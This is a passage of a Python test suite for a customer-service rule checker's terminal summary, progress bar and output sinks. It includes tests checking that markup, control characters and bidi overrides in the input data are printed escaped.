    summary.add_rejection(source, "SR310", "no value in columns 'date', 'q_exit'; event 'call.answered' needs a time ('at')")
    out = io.StringIO()
    SummaryPrinter(out, width=80).print(summary)
    lines = out.getvalue().splitlines()
    assert f"  {source}: SR310 no value in columns 'date', 'q_exit'; event 'call.answered' needs a time ('at')" in lines


@pytest.mark.parametrize("width", [60, 80, 110])
def test_terminal_summary_folds_long_ids_instead_of_cutting_them(width: int) -> None:
    rule_id = "protocol.greeting-the-customer-by-name-in-the-first-personal-reply"
    summary = _summary_with_rules((rule_id, "minor", 8))
    out = io.StringIO()
    SummaryPrinter(out, width=width).print(summary)
    text = out.getvalue()
    assert max(len(line) for line in text.splitlines()) <= width
    # read the first column of each table back: the whole id is there, folded over lines, never cut with "…"
    firsts = "".join(line.split("│")[1].strip() for line in text.splitlines() if line.startswith("│"))
    assert firsts.count(rule_id) == 2
    assert "Jean-Baptiste-Emmanuel-Zorg-de-la-Tres-Longue-Famille" in firsts
    examples = "".join(line.split("│")[6].strip() for line in text[text.index("Top violations") :].splitlines() if line.count("│") == 7)
    assert f"{rule_id}-example-interaction-2" in examples
    assert not [line for line in text.splitlines() if line.startswith("│") and "…" in line]  # (60 columns cut headers)


def test_terminal_summary_folds_the_examples_rather_than_the_rule_ids_where_the_ids_fit() -> None:
    # at the width of a log (110), Rich narrowed the widest column first: "complaint.escalated-to-ma" / "nager"
    rule_id = "privacy.agent-asks-for-card-or-password"
    summary = _summary_with_rules((rule_id, "critical", 8), ("reply.late", "major", 5))
    out = io.StringIO()
    SummaryPrinter(out, width=110).print(summary)
    text = out.getvalue()
    top = text[text.index("Top violations") : text.index("Compliance per agent")]
    rows = [line.split("│") for line in top.splitlines() if line.count("│") == 7]
    assert max(len(line) for line in top.splitlines()) <= 110
    assert [row[1].strip() for row in rows if row[1].strip()] == [rule_id, "reply.late"]  # each on one line
    examples = "".join(row[6].strip() for row in rows)
    assert all(f"{rule_id}-example-interaction-{k}" in examples for k in range(3))
    assert len(rows) > 2  # the examples took more lines


def test_terminal_summary_prints_ids_teams_and_agents_as_written_not_as_markup(ruleset: Any, tmp_path: Path) -> None:
    # "[/]" closes nothing: read as Rich markup it raised MarkupError at the end of the run
    record = dict(_email(1, 30, "Sorted."), id="[/]", team="[bold red]billing[/]", agents=[{"id": "[/x]"}])
    record["events"][1]["author"]["id"] = "[/x]"
    # nor do escape sequences reach the terminal (this one would clear the screen)
    rejected = {"id": "bad", "channel": "email", "created_at": "2026-03-02T09:00:00Z", "priority": "\x1b[2J"}
    summary = check_files(ruleset, [_write_jsonl(tmp_path / "in.jsonl", [record, rejected, dict(_email(2, 30), team="t\x1b[2J")])], as_of=AS_OF)
    out = io.StringIO()
    SummaryPrinter(out, width=160).print(summary)
    text = out.getvalue()
    assert "[bold red]billing[/]" in text and "[/x]" in text
    assert "\x1b" not in text and text.count("\\x1b[2J") == 2  # the team, and the value the rejection quotes
    top = text[text.index("Top violations") : text.index("Compliance per channel")]
    assert "[/]" in top  # the example interaction's id


@pytest.mark.skipif(sys.platform == "win32", reason="file names are bytes on POSIX only")
def test_terminal_summary_shows_a_file_name_that_is_not_utf8_as_escapes(ruleset: Any, tmp_path: Path) -> None:
    # Python names such a file with surrogate escapes, which a UTF-8 standard output refuses (the summary
    # failed with UnicodeEncodeError once the outputs were written)
    name = os.fsdecode(os.fsencode(tmp_path) + b"/Anrufe-M\xe4rz.jsonl")
    summary = check_files(ruleset, [_write_jsonl(Path(name), [_email(1, 30), {"id": "bad"}])], as_of=AS_OF)
    out = io.TextIOWrapper(io.BytesIO(), encoding="utf-8", errors="strict")
    SummaryPrinter(out, width=300).print(summary)
    out.seek(0)
    assert "Anrufe-M\\udce4rz.jsonl:2: SR111" in out.read()  # as in --rejects and --summary-json


# -------------------------------------------------------------------------------------------- progress


class _Terminal(io.StringIO):
    def isatty(self) -> bool:
        return True


def _last_frame(terminal: _Terminal) -> str:
    return [line for line in terminal.getvalue().splitlines() if "records" in line][-1]


def test_progress_bar_only_on_a_terminal() -> None:
    assert type(make_progress(io.StringIO(), total=100)).__name__ == "_NoProgress"
    assert type(make_progress(_Terminal(), total=100, enabled=False)).__name__ == "_NoProgress"
    assert type(make_progress(None)).__name__ == "_NoProgress"
    terminal = _Terminal()
    with make_progress(terminal, total=100) as progress:
        progress.advance(10, 50)
    last = _last_frame(terminal)
    # a finished run ends at 100%, even when the inputs' sizes did not add up to the total (mixed files)
    assert "10 records" in last and "100%" in last
    terminal = _Terminal()
    with pytest.raises(KeyboardInterrupt):
        with make_progress(terminal, total=100) as progress:
            progress.advance(10, 50)
            raise KeyboardInterrupt
    assert "50%" in _last_frame(terminal)  # an interrupted run shows where it stopped


def _frames(terminal: _Terminal) -> list[str]:
    """The frames the progress bar drew, without their colours and cursor controls."""
    text = re.sub(r"\x1b\[[0-9;?]*[A-Za-z]", "", terminal.getvalue())
    return [frame for frame in re.split(r"[\r\n]", text) if frame.strip()]


@pytest.mark.parametrize("columns", [80, 100])
def test_the_progress_line_leaves_room_for_the_terminal_to_echo_ctrl_c(monkeypatch: pytest.MonkeyPatch, columns: int) -> None:
    # up to about 85 columns the line was as wide as the terminal: the "^C" the terminal echoes began a new
    # line, and the last frame was drawn under a stale one
    monkeypatch.setenv("COLUMNS", str(columns))
    terminal = _Terminal()
    with pytest.raises(KeyboardInterrupt):
        with make_progress(terminal, total=1_000) as progress:
            progress.advance(12_345, 500)
            raise KeyboardInterrupt
    frames = _frames(terminal)
    assert frames[-1][2:].startswith("checking 12,345 records") and frames[-1].endswith(" 50% ETA -:--:--")
    assert max(len(frame) for frame in frames) <= columns - 2


def test_the_progress_line_of_a_narrow_terminal_leaves_out_the_bar_and_stays_one_line(monkeypatch: pytest.MonkeyPatch) -> None:
    # at 40 columns the words wrapped: "checking 12,345" / "recor…" / "…/s"
    monkeypatch.setenv("COLUMNS", "40")
    terminal = _Terminal()
    with make_progress(terminal, total=1_000) as progress:
        progress.advance(12_345, 500)
    assert _frames(terminal)[-1] == "  12,345 records …/s 100% 0:00:00"
    terminal = _Terminal()
    with make_progress(terminal) as progress:  # standard input: no size, no share done, no time left
        progress.advance(12_345, 500)
    assert _frames(terminal)[-1] == "  12,345 records …/s"


def test_the_summary_fits_the_terminal_and_is_110_columns_elsewhere(monkeypatch: pytest.MonkeyPatch) -> None:
    assert SummaryPrinter(io.StringIO()).console.width == 110  # a file, a pipe, a CI log: always the same
    monkeypatch.setenv("COLUMNS", "72")
    assert SummaryPrinter(_Terminal()).console.width == 72


def test_the_time_left_is_shown_once_the_rate_has_settled() -> None:
    from rich.progress import Progress, TimeRemainingColumn

    from servicerules.batch.output import _TimeLeft

    clock = [0.0]
    progress = Progress(get_time=lambda: clock[0])
    task_id = progress.add_task("check", total=1000)
    column = _TimeLeft()
    # a burst of early chunks, 50 records at 0.5 s and 50 more at 1 s: Rich's own column estimates from them
    # 100 per second, 900 left, "9 s left" for a run of minutes; for its first 5 s ours shows no estimate
    for at, completed in ((0.5, 50), (1.0, 100)):
        clock[0] = at
        progress.update(task_id, completed=completed)
    assert (TimeRemainingColumn().render(progress.tasks[0]).plain, column.render(progress.tasks[0]).plain) == ("0:00:09", "-:--:--")
    # settled, Rich's estimate: what came after the first sample over the time since it, (50 + 110) / 19.5 s;
    # the 790 left take 790 * 19.5 / 160 = 96.3 s, rounded up to 97 s
    clock[0] = 20.0
    progress.update(task_id, completed=210)
    assert column.render(progress.tasks[0]).plain == "0:01:37"


def test_sinks_are_closed_when_the_run_cannot_start(ruleset: Any, tmp_path: Path) -> None:
    out, summary_file = tmp_path / "v.json", tmp_path / "s.json"
    with pytest.raises(FileNotFoundError):
        check_files(ruleset, [str(tmp_path / "missing.jsonl")], sinks=[ViolationWriter.open(str(out)), SummaryJsonWriter(str(summary_file))])
    assert json.loads(out.read_text()) == [] and not summary_file.exists()


def test_inputs_may_be_paths_and_one_string_instead_of_a_list_is_a_type_error(ruleset: Any, data: str, tmp_path: Path) -> None:
    by_name = check_files(ruleset, [data], as_of=AS_OF).to_dict()
    by_path = check_files(ruleset, [Path(data)], as_of=AS_OF).to_dict()
    assert {**by_path, "elapsed_seconds": 0} == {**by_name, "elapsed_seconds": 0} and by_path["evaluated"] == 3
    out = tmp_path / "v.json"
    for wrong in (data, Path(data)):
        with pytest.raises(TypeError, match="inputs must be a list"):
            check_files(ruleset, wrong, sinks=[ViolationWriter.open(str(out))])  # type: ignore[arg-type]
        assert json.loads(out.read_text()) == []  # the sinks were closed


def test_sinks_are_closed_when_a_sink_cannot_begin(ruleset: Any, data: str, tmp_path: Path) -> None:
    class Database(BatchSink):
        def begin(self, summary: BatchSummary) -> None:
            raise ConnectionError("the database is down")

    out, summary_file = tmp_path / "v.json", tmp_path / "s.json"
    writer = ViolationWriter.open(str(out))
    with pytest.raises(ConnectionError):
        check_files(ruleset, [data], sinks=[writer, Database(), SummaryJsonWriter(str(summary_file))])
    assert writer.handle.closed and json.loads(out.read_text()) == [] and not summary_file.exists()


# ------------------------------------------------------------------------------- per chunk, not per record


def test_summary_parts_and_sink_digests_equal_feeding_each_outcome(tmp_path: Path) -> None:
    """Workers send one summary part and one digest per sink per chunk; however the outcomes are cut into
    chunks, the summary and the outputs are those of feeding every outcome in turn."""
    from benchmarks.corpus import corpus
    from servicerules.batch.parallel import evaluate_chunk
    from servicerules.batch.summary import InteractionOutcome, SummaryPart
    from servicerules.batch.targets import TargetAccumulator

    charter = servicerules.load(ROOT / "rulesets" / "charter.yaml")  # it has aggregate targets
    items = [(f"in.jsonl:{k + 1}", record) for k, record in enumerate(corpus(150, seed=4, events=5))]
    week_after = dt.datetime(2026, 3, 12, tzinfo=dt.timezone.utc)  # the corpus's interactions all exist then
    outcomes = [r for r in evaluate_chunk(charter, items, as_of=week_after) if isinstance(r, InteractionOutcome)]
    assert len(outcomes) == 150 and sum(len(o.violations) for o in outcomes) > 100

    def outputs(feed: str) -> tuple[dict[str, Any], dict[str, str]]:
        summary = BatchSummary.for_ruleset(charter)
        files = {name: tmp_path / f"{feed}-{name}" for name in ("v.jsonl", "v.json", "v.csv", "junit.xml")}
        sinks: list[Any] = [ViolationWriter.open(str(files[name])) for name in ("v.jsonl", "v.json", "v.csv")]
        sinks.append(JUnitWriter(str(files["junit.xml"]), fail_on="minor"))
        for sink in sinks:
            sink.begin(summary)
        if feed == "each":
            for outcome in outcomes:
                summary.add_outcome(outcome)
                for sink in sinks:
                    sink.add_outcome(outcome)
        else:
            digests = [sink.outcome_digest() for sink in sinks]
            for start in range(0, len(outcomes), 7):
                chunk = outcomes[start : start + 7]
                part = SummaryPart(targets=TargetAccumulator(charter.targets))
                for outcome in chunk:
                    part.add(outcome)
                summary.add_part(part)
                for sink, digest in zip(sinks, digests):
                    sink.add_digest(digest(chunk))
        for sink in sinks:
            sink.close(summary)
        return summary.to_dict(), {name: path.read_text(encoding="utf-8") for name, path in files.items()}

    each, chunked = outputs("each"), outputs("chunked")
    assert chunked == each
    assert each[0]["targets"]
    # per rule: the interactions that violated it, counted, and the first three of them kept as examples
    for rule in each[0]["rules"]:
        violators = [o.interaction_id for o in outcomes if any(row.rule_id == rule["rule_id"] for row in o.violations)]
        assert (rule["violated"], rule["examples"]) == (len(violators), violators[:3]), rule["rule_id"]
    assert max(rule["violated"] for rule in each[0]["rules"]) > 3  # so that the bound is reached
    assert len(json.loads(each[1]["v.json"])) == each[0]["violations"] == len(each[1]["v.jsonl"].splitlines())


# ------------------------------------------------------------------------------- a help desk of many groups


def _summary_of_groups(kind: str, groups: dict[str, tuple[int, int]]) -> BatchSummary:
    """A summary whose channel, team or agent figures are ``groups``: name → (interactions, compliant)."""
    from servicerules.batch.summary import GroupStats

    summary = BatchSummary("desk", "1", "reference", read=500, evaluated=500, compliant=400)
    for name, (interactions, compliant) in groups.items():
        getattr(summary, f"by_{kind}")[name] = GroupStats(interactions, compliant)
    return summary


def _section(text: str, title: str) -> list[str]:
    lines = text.splitlines()
    return lines[next(k for k, line in enumerate(lines) if line.startswith(title)) :]


def test_a_group_table_of_at_most_25_groups_lists_them_all_by_name() -> None:
    summary = _summary_of_groups("team", {f"team-{k:02d}": (2, k % 3) for k in reversed(range(25))})
    out = io.StringIO()
    SummaryPrinter(out, width=80).print(summary)
    lines = _section(out.getvalue(), "Compliance per team")
    assert lines[:5] == [
        "Compliance per team",
        "┏━━━━━━━━━┳━━━━━━━━━━━━━━┳━━━━━━━━━━━━┓",
        "┃ team    ┃ interactions ┃ compliance ┃",
        "┡━━━━━━━━━╇━━━━━━━━━━━━━━╇━━━━━━━━━━━━┩",
        "│ team-00 │            2 │       0.0% │",
    ]
    assert lines[-2:] == ["│ team-24 │            2 │       0.0% │", "└─────────┴──────────────┴────────────┘"]
    assert len(lines) == 5 + 24 + 1


def test_a_group_table_of_more_than_25_groups_shows_the_25_lowest_and_says_how_many_more() -> None:
    # 400 agents made a 400-row table that buried the rest of the summary
    agents = {f"agent-{k:02d}": (10, 9) for k in range(27)}  # 90% each: ties, by name
    agents |= {
        "agent-05": (4, 0), "agent-17": (12, 0),  # 0%: more interactions first
        "agent-09": (6, 3), "agent-22": (6, 3), "agent-02": (10, 5),  # 50% (3 of 6 and 5 of 10 are a tie)
        "agent-11": (3, 3), "agent-26": (1, 1),  # 100%: left out
    }
    out = io.StringIO()
    SummaryPrinter(out, width=80).print(_summary_of_groups("agent", agents))
    nineties = [k for k in range(27) if f"agent-{k:02d}" not in ("agent-05", "agent-17", "agent-09", "agent-22", "agent-02", "agent-11", "agent-26")]
    assert _section(out.getvalue(), "Compliance per agent") == [
        "Compliance per agent (the 25 lowest of 27)",
        "┏━━━━━━━━━━┳━━━━━━━━━━━━━━┳━━━━━━━━━━━━┓",
        "┃ agent    ┃ interactions ┃ compliance ┃",
        "┡━━━━━━━━━━╇━━━━━━━━━━━━━━╇━━━━━━━━━━━━┩",
        "│ agent-17 │           12 │       0.0% │",
        "│ agent-05 │            4 │       0.0% │",
        "│ agent-02 │           10 │      50.0% │",
        "│ agent-09 │            6 │      50.0% │",
        "│ agent-22 │            6 │      50.0% │",
        *(f"│ agent-{k:02d} │           10 │      90.0% │" for k in nineties),
        "└──────────┴──────────────┴────────────┘",
        "  … and 2 more agents (all of them in --summary-json)",
    ]
    assert len(nineties) == 20
    out = io.StringIO()
    SummaryPrinter(out, width=80).print(_summary_of_groups("channel", {f"c{k:02d}": (1_000 + k, 1_000) for k in range(1_026)}))
    lines = _section(out.getvalue(), "Compliance per channel")
    assert lines[0] == "Compliance per channel (the 25 lowest of 1,026)"  # a line of its own: as the table's title it wrapped
    assert lines[4] == "│ c1025   │        2,025 │      49.4% │"
    assert lines[-1] == "  … and 1,001 more channels (all of them in --summary-json)"
    out = io.StringIO()
    SummaryPrinter(out, width=80).print(_summary_of_groups("team", {f"t{k:02d}": (2, 1) for k in range(26)}))
    assert out.getvalue().splitlines()[-1] == "  … and 1 more team (all of them in --summary-json)"


def _target_result(target_id: str, group: dict[str, str | None], achieved: Fraction | None, counted: int, *,
                   kind: str = "share", objective: str = "0.8", comparison: str = ">=", unknown: int = 0) -> Any:
    from servicerules.batch.targets import TargetResult

    met = achieved is not None and (achieved >= Fraction(objective) if comparison == ">=" else achieved <= Fraction(objective))
    share = kind != "average"
    return TargetResult(
        target_id, "", kind, group, "no_data" if achieved is None else "met" if met else "missed",  # type: ignore[arg-type]
        None if achieved is None else float(achieved), float(objective), comparison,  # type: ignore[arg-type]
        int(achieved * counted) if share and achieved is not None else 0 if share else None, counted if share else None,
        None if share else float((achieved or 0) * counted), None if share else counted, unknown,
        "ratio" if share else "seconds", "major", achieved,
    )


def test_a_target_of_more_than_25_groups_shows_its_25_worst_and_says_how_many_more_and_of_what() -> None:
    # a target by agent or by half hour printed a line for each of hundreds or thousands of groups
    results = [_target_result("total", {}, Fraction(80, 100), 100)]
    missed = {3: (Fraction(1, 4), 4), 7: (Fraction(2, 8), 8), 12: (Fraction(7, 10), 10)}
    for k in range(28):
        achieved, counted = missed.get(k, (Fraction(9 + k % 2, 10), 10))
        results.append(_target_result("sl-by-agent", {"agent": f"ag-{k:02d}"}, None if k == 27 else achieved, counted, unknown=2 * (k == 27)))
    waits = {5: (45, 3), 20: (45, 5), 9: (31, 3)}
    for k in range(26):
        wait, counted = waits.get(k, (10, 3))
        half_hour = f"2026-03-02T{k // 2:02d}:{k % 2 * 30:02d}Z"
        results.append(_target_result("asa-by-interval", {"interval_30m": half_hour}, Fraction(wait), counted, kind="average", objective="30", comparison="<="))
    for team, achieved in (("a", Fraction(0)), ("b", Fraction(1, 2)), (None, Fraction(1, 20))):
        results.append(_target_result("abandonment-by-team", {"team": team}, achieved, 20, kind="rate", objective="0.05", comparison="<="))
    summary = _summary_of_groups("team", {})
    summary.targets = SimpleNamespace(results=lambda: results)  # type: ignore[assignment]
    out = io.StringIO()
    SummaryPrinter(out, width=80).print(summary)
    sl = "objective >= 80.0%"
    assert _section(out.getvalue(), "Aggregate targets") == [
        "Aggregate targets",
        f"  total: 80.0% (80/100), {sl}: met",
        # missed first, the lowest share first; of equal shares, more counted first
        f"  sl-by-agent [agent=ag-07]: 25.0% (2/8), {sl}: missed",
        f"  sl-by-agent [agent=ag-03]: 25.0% (1/4), {sl}: missed",
        f"  sl-by-agent [agent=ag-12]: 70.0% (7/10), {sl}: missed",
        *(f"  sl-by-agent [agent=ag-{k:02d}]: 90.0% (9/10), {sl}: met" for k in range(0, 27, 2) if k != 12),
        *(f"  sl-by-agent [agent=ag-{k:02d}]: 100.0% (10/10), {sl}: met" for k in (1, 5, 9, 11, 13, 15, 17, 19, 21)),
        "  … and 3 more groups of sl-by-agent: 2 met, 1 no data (all of them in --summary-json)",
        # at most: the highest average first
        "  asa-by-interval [interval_30m=2026-03-02T10:00Z]: 45s (mean of 5), objective <= 30s: missed",
        "  asa-by-interval [interval_30m=2026-03-02T02:30Z]: 45s (mean of 3), objective <= 30s: missed",
        "  asa-by-interval [interval_30m=2026-03-02T04:30Z]: 31s (mean of 3), objective <= 30s: missed",
        *(f"  asa-by-interval [interval_30m=2026-03-02T{k // 2:02d}:{k % 2 * 30:02d}Z]: 10s (mean of 3), objective <= 30s: met"
          for k in range(25) if k not in waits),
        "  … and 1 more group of asa-by-interval: 1 met (all of them in --summary-json)",
        # 25 groups or fewer: all of them, in the order of their groups
        "  abandonment-by-team [team=a]: 0.0% (0/20), objective <= 5.0%: met",
        "  abandonment-by-team [team=b]: 50.0% (10/20), objective <= 5.0%: missed",
        "  abandonment-by-team [team=(none)]: 5.0% (1/20), objective <= 5.0%: met",
    ]


def _charter_like_summary() -> BatchSummary:
    from servicerules.batch.summary import GroupStats, RuleStats

    summary = BatchSummary("demo", "1", "reference", read=100, evaluated=100, compliant=50, violations=12)
    for rule_id, severity, violated in (("identity.verified-before-account-action", "critical", 7), ("reply.late", "major", 5)):
        summary.rules[rule_id] = RuleStats(rule_id, "", severity, violated=violated, compliant=100 - violated, violations=violated,
                                           examples=[f"EM-100{k}" for k in range(3)])
    summary.by_team["tech-support"] = GroupStats(19, 6)
    return summary


def test_terminal_tables_fold_the_ids_rather_than_cut_headers_severities_or_figures() -> None:
    # Rich narrowed the widest columns first and then all alike: at 80 columns the header "interactions"
    # read "interactio…", at 60 "critical" read "critic…", at 40 "93.0%" read "93…"
    out = io.StringIO()
    SummaryPrinter(out, width=80).print(_charter_like_summary())
    text = out.getvalue()
    assert text[text.index("Top violations") : text.index("Compliance per team")].splitlines()[1:] == [
        "┏━━━━━━━━━━━━━━┳━━━━━━━━━━┳━━━━━━━━━━━━┳━━━━━━━━━━━━━━┳━━━━━━━━━┳━━━━━━━━━━━━━━┓",
        "┃              ┃          ┃            ┃              ┃  of all ┃              ┃",
        "┃ rule         ┃ severity ┃ violations ┃ interactions ┃ checked ┃ examples     ┃",
        "┡━━━━━━━━━━━━━━╇━━━━━━━━━━╇━━━━━━━━━━━━╇━━━━━━━━━━━━━━╇━━━━━━━━━╇━━━━━━━━━━━━━━┩",
        "│ identity.ver │ critical │          7 │            7 │    7.0% │ EM-1000,     │",
        "│ ified-before │          │            │              │         │ EM-1001,     │",
        "│ -account-act │          │            │              │         │ EM-1002      │",
        "│ ion          │          │            │              │         │              │",
        "│ reply.late   │ major    │          5 │            5 │    5.0% │ EM-1000,     │",
        "│              │          │            │              │         │ EM-1001,     │",
        "│              │          │            │              │         │ EM-1002      │",
        "└──────────────┴──────────┴────────────┴──────────────┴─────────┴──────────────┘",
    ]
    out = io.StringIO()
    SummaryPrinter(out, width=60).print(_charter_like_summary())
    text = out.getvalue()
    assert text[text.index("Compliance per rule") : text.index("Top violations")].splitlines()[1:6] == [
        "┏━━━━━━━━━━┳━━━━━━━━━━┳━━━━━━━━━┳━━━━━━━━━┳━━━━━┳━━━━━━━━━━┓",
        "┃          ┃          ┃ violate ┃ complia ┃     ┃ complian ┃",  # the headers fold, not the figures
        "┃ rule     ┃ severity ┃       d ┃      nt ┃ n/a ┃       ce ┃",
        "┡━━━━━━━━━━╇━━━━━━━━━━╇━━━━━━━━━╇━━━━━━━━━╇━━━━━╇━━━━━━━━━━┩",
        "│ identity │ critical │       7 │      93 │   0 │    93.0% │",
    ]


@pytest.mark.parametrize("width", [40, 60, 80, 110])
def test_terminal_tables_never_cut_anything_with_an_ellipsis(width: int) -> None:
    out = io.StringIO()
    SummaryPrinter(out, width=width).print(_charter_like_summary())
    text = out.getvalue()
    assert max(len(line) for line in text.splitlines()) <= width
    assert "…" not in text
    # each column read back across the lines it folds onto holds its values whole (at 40 "93." / " 0%")
    rules = [line.split("│") for line in text[: text.index("Top violations")].splitlines() if line.startswith("│")]
    assert "".join(row[2].strip() for row in rules) == "criticalmajor"
    assert "".join(row[6].strip() for row in rules) == "93.0%95.0%"
    assert "".join(row[1].strip() for row in rules) == "identity.verified-before-account-actionreply.late"


def test_terminal_summary_shows_line_breaks_tabs_and_bidi_overrides_from_the_data_as_escapes() -> None:
    # a team with a line break split its target's line (grep ': missed' found "line]: 0.0% …" without the
    # target) and its table row; a tab read as spaces; U+202E turned "bidi‮gnp.exe" into "bidiexe.png"
    summary = _summary_of_groups("team", {"new\nline": (2, 0), "tab\there": (2, 1), "bidi\u202egnp.exe": (2, 2)})
    summary.add_rejection("in\u2028.jsonl:3", "SR301", "bad\nrecord")
    results = [_target_result("sl-by-team", {"team": "new\nline"}, Fraction(0), 2)]
    summary.targets = SimpleNamespace(results=lambda: results)  # type: ignore[assignment]
    out = io.StringIO()
    SummaryPrinter(out, width=80).print(summary)
    assert _section(out.getvalue(), "Aggregate targets") == [
        "Aggregate targets",
        "  sl-by-team [team=new\\nline]: 0.0% (0/2), objective >= 80.0%: missed",
        "Compliance per team",
        "┏━━━━━━━━━━━━━━━━━━━┳━━━━━━━━━━━━━━┳━━━━━━━━━━━━┓",
        "┃ team              ┃ interactions ┃ compliance ┃",
        "┡━━━━━━━━━━━━━━━━━━━╇━━━━━━━━━━━━━━╇━━━━━━━━━━━━┩",
        "│ bidi\\u202egnp.exe │            2 │     100.0% │",
        "│ new\\nline         │            2 │       0.0% │",
        "│ tab\\there         │            2 │      50.0% │",
        "└───────────────────┴──────────────┴────────────┘",
        "Rejected records (1):",
        "  in\\u2028.jsonl:3: SR301 bad\\nrecord",
    ]
